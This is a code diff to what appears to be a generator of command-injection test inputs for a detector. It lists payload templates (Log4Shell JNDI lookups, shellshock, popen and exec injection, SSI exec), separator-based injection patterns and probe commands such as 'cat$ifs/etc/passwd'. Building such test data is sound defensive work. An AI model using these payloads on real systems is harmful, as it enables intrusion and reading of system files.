@@ -131,6 +131,7 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "${{jndi:ldap://{w}.example/{w}}}", "${{${{lower:j}}ndi:rmi://{w}.example:{n}/{w}}}",
         "system({q}{x}{q})", "exec({q}{x}{q})", "() {{ :; }}; {x}",
         "__import__({q}os{q}).popen({q}{x}{q}).read()", "{w}\n{x}",
+        "{q}{s}{x}{s}", "{q}{s}{x}{s}{q}", "{q}{s}{x} #", "{w}{q}{s}{x}{s}", "{s}{x}{q}", "{n}{s}{x}{s}{n}", "{x}{s}", "{q}{x}{s}",
         "<!--#exec cmd={q}{x}{q} -->", "<!--#include virtual={q}/{w}{q} -->",
     ),
 }
@@ -144,6 +145,9 @@ COMMANDS = (
     "python -c 'import os'", "perl -e 'print {n}'", "touch /tmp/{w}", "ls /{w}", "ls /home",
     "cat /{w}/{w}.conf", "ls -l", "cat {w}.php", "hostname", "w", "last", "date", "df -h",
     "rm -rf /tmp/{w}", "chmod 777 {w}", "find / -name {w}",
+    "echo {w}$(({n}+{m}))$(echo {w}){w}", "echo$ifs{w}$(({n}+{m}))$(echo$ifs{w}){w}", "uname >{w}{n}",
+    "ver >{w}{n}", "del {w}{n}", "rm {w}{n}", "ping -w {n} -n 1 {d}.{d}.{d}.{m}", "expr {n} + {m}",
+    "set /a {n}+{m}", "print {n}*{m}", "uname\t>{w}{n}\t#", "cat$ifs/etc/passwd", "id>{w}.txt",
 )
 HARMLESS = (
     "don't {w}; {w} at {w}", "{w} isn't {w}, it's {w}.", "{W} \"{w}\" isn't '{w}'", "{w},{w}\n{w},{n}\n{w},{m}\n", "..", "../..",
